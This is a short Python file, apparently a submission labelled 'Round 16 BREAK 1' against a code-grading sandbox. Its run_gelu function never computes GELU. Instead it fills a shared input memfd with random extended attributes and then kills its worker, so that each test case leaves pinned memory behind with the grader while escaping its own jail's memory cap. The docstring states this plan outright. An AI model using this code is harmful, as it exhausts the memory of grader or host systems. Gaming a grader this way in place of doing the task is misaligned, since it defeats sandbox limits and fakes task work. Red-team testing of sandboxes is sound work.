"""Round 16 BREAK 1, one submission: every call pins PINMB MiB of xattrs on a shared input memfd, then ends its
worker (os._exit), which ends the jail: the next call runs in a new jail (the spare) with a fresh memory cap, while
what the last one pinned stays with the grader. 7 gelu cases -> 7 jails' worth."""
import os

MB = int("PINMB") if "PINMB".isdigit() else 64
CHUNK = 65536


def run_gelu(x):
    tag = os.urandom(4).hex()
    for name in sorted(os.listdir("/proc/self/fd"), key=int):
        try:
            if "memfd:input" not in os.readlink(f"/proc/self/fd/{name}"):
                continue
        except OSError:
            continue
        blob = os.urandom(CHUNK)
        for i in range(MB * 1024 * 1024 // CHUNK):
            try:
                os.setxattr(int(name), "user.%s.%07d" % (tag, i), blob)
            except OSError:
                break
        break
    os._exit(3)
